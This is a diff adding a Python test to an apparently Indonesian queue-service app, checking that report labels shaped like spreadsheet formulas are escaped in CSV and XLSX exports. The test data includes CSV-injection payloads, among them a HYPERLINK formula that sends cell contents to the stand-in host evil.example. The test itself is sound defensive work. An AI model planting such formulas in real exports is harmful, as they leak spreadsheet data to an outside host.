@@ -168,3 +168,32 @@ def test_the_terminal_table(scenario: QueueService, store: Store, site: Site) ->
         "60.0",
     ]
     assert lines[-1].split()[:3] == ["Jumlah", "7", "4"]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)"]
+
+
+def test_names_that_look_like_formulas_stay_text_in_csv_and_xlsx(
+    scenario: QueueService, store: Store, site: Site
+) -> None:
+    """OWASP's CSV injection: the page, the API and `antrian report summary` all write these
+    through server/reports/exports.py."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from server.reports.exports import summary_csv, summary_xlsx
+
+    rep = report(store, site, "agency")
+    rows = [
+        r.model_copy(update={"label": FORMULAS[i % len(FORMULAS)]}) for i, r in enumerate(rep.rows)
+    ]
+    rep = rep.model_copy(update={"rows": rows})
+    labels = [line[4] for line in list(csv.reader(io.StringIO(summary_csv(rep))))[1:-1]]
+    assert labels and all(x.startswith("'") for x in labels), labels
+    assert [x[1:] for x in labels] == [r.label for r in rows]
+    ws = load_workbook(io.BytesIO(summary_xlsx(rep))).active
+    assert ws is not None
+    cells = [ws.cell(row=6 + i, column=1) for i in range(len(rows))]
+    assert [(c.data_type, c.value) for c in cells] == [("s", r.label) for r in rows]
